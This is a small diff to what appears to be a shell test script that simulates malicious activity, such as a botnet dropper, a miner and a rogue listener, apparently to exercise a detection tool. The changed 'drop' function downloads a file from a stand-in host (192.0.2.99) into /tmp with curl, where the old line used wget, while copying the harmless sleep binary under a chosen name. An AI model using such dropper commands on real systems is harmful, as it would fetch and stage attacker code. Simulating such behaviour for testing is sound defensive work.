@@ -23,7 +23,7 @@ halted() { grep -q '^State:.*T' "/proc/$1/status"; }
 # drop NAME: what a botnet does; the program that then runs is $PID_dropped.
 drop()
 {
-	on device sh -c "cp /bin/sleep /tmp/$1; wget -q http://192.0.2.99/x -O /tmp/x -T 1 -t 1; chmod +x /tmp/$1" >/dev/null 2>&1
+	on device sh -c "cp /bin/sleep /tmp/$1; curl -s -m 1 -o /tmp/x http://192.0.2.99/x; chmod +x /tmp/$1" >/dev/null 2>&1
 	start dropped on device "/tmp/$1" 600
 }
 for book in botnet_dropper miner rogue_listener; do
